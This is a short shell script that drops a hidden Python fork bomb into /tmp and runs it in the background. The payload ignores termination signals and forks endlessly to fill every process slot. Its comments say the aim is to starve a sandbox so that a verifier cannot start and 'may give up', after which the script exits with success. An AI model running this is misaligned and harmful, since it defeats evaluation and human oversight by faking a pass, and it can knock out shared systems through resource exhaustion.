#!/bin/sh
# for: any
# Takes every process that the sandbox may have, so that a verifier cannot start one and may give up.
cat > /tmp/.hold.py <<'PY'
import os, signal, time
os.setsid()
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
    except OSError:
        time.sleep(0.02)
PY
python3 /tmp/.hold.py > /dev/null 2>&1 &
# Ends where nothing more can be started.
i=0
while [ $i -lt 300 ]; do sleep 0.05; i=$((i + 1)); done 2> /dev/null
exit 0
